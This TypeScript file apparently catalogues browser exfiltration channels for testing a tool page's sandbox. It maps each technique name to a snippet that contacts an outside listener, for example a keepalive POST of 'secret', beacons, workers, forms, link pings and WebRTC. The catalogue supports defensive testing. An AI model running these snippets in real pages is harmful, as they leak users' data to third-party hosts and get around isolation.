/**
 * What a script that got into a tool page could try in order to send something out, each as the body of an async function.
 * `target` is an address of a listener that belongs to somebody else.
 */
export const ESCAPES: Record<string, string> = {
  fetch: `await fetch(target)`,
  'fetch that outlives the page': `await fetch(target, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' })`,
  'fetch to the own origin': `const answer = await fetch('/healthz?secret'); if (answer.ok) await fetch(target)`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('GET', target); request.send()`,
  beacon: `navigator.sendBeacon(target, 'secret')`,
  WebSocket: `new WebSocket(target.replace('http', 'ws'))`,
  EventSource: `new EventSource(target)`,
  image: `new Image().src = target`,
  'image in SVG': `const svg = 'http://www.w3.org/2000/svg'; const root = document.createElementNS(svg, 'svg'); const image = document.createElementNS(svg, 'image'); image.setAttribute('href', target); root.append(image); document.body.append(root)`,
  'CSS background': `document.body.style.backgroundImage = 'url(' + target + ')'`,
  'CSS rule': `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { border: 9px solid; border-image: url(' + target + ') }'); document.adoptedStyleSheets = [sheet]`,
  font: `await new FontFace('x', 'url(' + target + ')').load()`,
  audio: `await new Audio(target).play()`,
  'video poster': `const video = document.createElement('video'); video.poster = target; document.body.append(video)`,
  object: `const object = document.createElement('object'); object.data = target; document.body.append(object)`,
  embed: `const embed = document.createElement('embed'); embed.src = target; document.body.append(embed)`,
  frame: `const frame = document.createElement('iframe'); frame.src = target; document.body.append(frame)`,
  script: `const script = document.createElement('script'); script.src = target; document.head.append(script)`,
  'string as code': `setTimeout('fetch("' + target + '")')`,
  import: `await import(target)`,
  stylesheet: linkOf('stylesheet'),
  prefetch: linkOf('prefetch'),
  preload: `${linkOf('preload')}; link.as = 'image'`,
  modulepreload: linkOf('modulepreload'),
  icon: linkOf('icon'),
  'speculation rules': `const script = document.createElement('script'); script.type = 'speculationrules'; script.textContent = JSON.stringify({ prefetch: [{ urls: [target], eagerness: 'immediate' }] }); document.head.append(script)`,
  form: `const form = document.createElement('form'); form.action = target; form.method = 'post'; document.body.append(form); form.submit()`,
  'form in a new window': `const form = document.createElement('form'); form.action = target; form.method = 'post'; form.target = '_blank'; document.body.append(form); form.submit()`,
  navigation: `location.href = target`,
  'meta refresh': `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + target; document.head.append(meta)`,
  link: `const link = document.createElement('a'); link.href = target; document.body.append(link); link.click()`,
  'link in a new window': `const link = document.createElement('a'); link.href = target; link.target = '_blank'; document.body.append(link); link.click()`,
  'ping of a link': `const link = document.createElement('a'); link.href = '#here'; link.ping = target; document.body.append(link); link.click()`,
  download: `const link = document.createElement('a'); link.href = target; link.download = 'x'; document.body.append(link); link.click()`,
  'new window': `window.open(target)`,
  'worker from a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("' + target + '")'])))`,
  'worker from a data address': `new Worker('data:text/javascript,' + encodeURIComponent('fetch("' + target + '")'))`,
  'shared worker': `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + target + '")'])))`,
  WebRTC: `const peer = new RTCPeerConnection({ iceServers: [{ urls: target.replace('http://', 'stun:').replace(/[/].*/, '') }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())`,
}

/** Puts a link of this kind into the head. */
export function linkOf(rel: string): string {
  return `const link = document.createElement('link'); link.rel = '${rel}'; link.href = target; document.head.append(link)`
}
